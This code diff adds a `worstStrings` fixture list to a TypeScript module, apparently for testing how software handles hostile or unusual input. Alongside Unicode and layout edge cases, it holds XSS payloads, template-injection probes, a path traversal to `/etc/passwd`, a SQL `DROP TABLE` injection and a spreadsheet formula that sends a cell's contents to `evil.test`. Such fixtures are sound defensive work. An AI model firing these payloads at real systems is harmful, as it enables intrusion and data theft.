@@ -213,3 +213,28 @@ export const properNames: readonly string[] = [
   "José",
   "Björk",
 ];
+
+/** The worst of each kind, fit for one line. The first runs, the second turns, the third never breaks. */
+export const worstStrings: readonly string[] = [
+  "<script>alert('onward')</script>",
+  "\u202edlo si siht",
+  "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
+  "<svg/onload=alert(1)><img src=//evil.test/x onerror=alert(2)>",
+  '"\' onmouseover=alert(3) autofocus onfocus=alert(4) x="',
+  "</title></textarea></style></script><b>bold",
+  "<!--[if IE]><iframe src=javascript:alert(5)><![endif]-->",
+  "javascript:alert(6)//https://evil.test/",
+  "]]><foreignObject><body onload=alert(7)>",
+  "{{ 7 | times: 7 }}#{7*7}<%= 7*7 %>",
+  "&lt;b&gt; &amp;amp; &#x3C;i&#x3E;",
+  '=HYPERLINK("http://evil.test/?"&A1,"click")',
+  "שלום, עולם 12",
+  "مرحبا بالعالم 34",
+  "\u202b\u2067never closed",
+  "a\u200bb\u200dc\u2060d\ufeffe",
+  "Z\u0351\u0352\u0357a\u0300\u0301\u0302\u0303\u0304l\u0315\u0316g\u0321o\u0362\u0363",
+  "👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈🇺🇳1️⃣",
+  `${"W".repeat(90)}|`,
+  "../../etc/passwd%00.html?x=<y>",
+  "Robert'); DROP TABLE facts;--",
+];
